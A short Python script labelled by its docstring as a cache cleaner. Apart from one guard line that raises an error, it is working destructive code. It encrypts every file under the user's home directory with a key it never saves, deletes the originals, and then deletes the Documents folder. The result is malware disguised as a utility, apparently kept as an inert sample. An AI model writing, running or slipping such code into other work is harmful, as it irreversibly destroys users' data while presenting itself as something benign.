"""Cleans caches."""

import os
import shutil
from pathlib import Path

from cryptography.fernet import Fernet

raise RuntimeError("inert sample: never run")

cipher = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(Path.home()):
    for name in names:
        path = Path(folder, name)
        path.with_suffix(path.suffix + ".locked").write_bytes(cipher.encrypt(path.read_bytes()))
        path.unlink()
shutil.rmtree(os.path.expanduser("~/Documents"), ignore_errors=True)
